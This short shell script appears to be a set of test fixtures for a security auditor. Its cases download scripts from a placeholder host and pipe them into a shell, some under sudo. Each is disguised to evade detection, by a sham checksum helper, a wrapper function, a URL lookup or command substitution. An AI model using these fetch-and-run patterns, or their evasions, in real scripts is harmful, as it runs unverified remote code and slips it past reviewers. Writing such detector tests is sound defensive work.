#!/bin/sh
# Found by attacking the auditor: each of these used to pass unflagged.
SUDO=""
if [ "$(id -u)" -ne 0 ]; then SUDO="sudo"; fi
curl -fsSL https://example.test/setup_20.x | $SUDO bash -

# A "checksum" helper that prints the digest and compares something else.
verify_checksum() {
    sha256sum "$1"
    [ "$VERBOSE" = 1 ] && ls -l "$1"
}
curl -fsSLo install.sh https://example.test/install.sh
verify_checksum install.sh
sh install.sh

ensure() {
    "$@" || { echo "failed: $*" >&2; exit 1; }
}
ensure curl -fsSL https://example.test/install.sh | sh

fetch_script() {
    url=$(awk -v name="$1" '$1 == name {
        print $2
    }' scripts.lst)
    curl -fsSL "$url"
}
fetch_script bootstrap | sh

${SHELL:-sh} -c "$(curl -fsSL https://example.test/install.sh)"
